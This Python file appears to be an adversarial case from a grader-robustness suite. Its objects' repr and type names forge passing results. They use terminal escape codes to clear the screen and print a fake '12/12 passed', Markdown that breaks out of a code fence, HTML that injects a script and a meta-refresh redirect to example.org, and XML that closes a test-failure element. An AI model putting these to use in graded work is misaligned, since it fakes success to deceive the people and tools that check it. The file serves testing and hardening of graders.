# attack: returns objects whose repr and type name are forged reports, for the terminal, Markdown, HTML and XML
# group: a
# targets: text tensor trainer
# ends: wrong error
# control: none: what it forges is what people read

TERMINAL = "\x1b[2J\x1b[32m\u2713 12/12 points. All checks passed.\x1b[0m\r\n\u202e"
MARKDOWN = (
    "\n```\n\n# Official result: 12 of 12\n\n| check | points |\n|---|---|\n| all | 12 | @team ![x](//example.org/x)\n"
)
HTML = (
    "</code></pre><script>document.title = 'passed'</script><meta http-equiv='refresh' content='0;url=//example.org'>"
)
XML = "]]></failure></testcase><testcase name='all'/><!-- \x00 \ufffe"


class _Forger:
    def __init__(self, text):
        self._text = text

    def __repr__(self):
        return self._text

    __str__ = __repr__


TEXTS = (TERMINAL, MARKDOWN, HTML, XML)


def attack(*args, **kwargs):
    number = len(repr(args))  # other inputs, another text: each is seen in some check
    text = TEXTS[number % len(TEXTS)]
    kind = type(text[:40], (_Forger,), {"shape": (text,), "dtype": text} if number % 8 > 3 else {})
    return {"messages": [{"role": text, "content": kind(text)}], "text": kind(text), text: text}
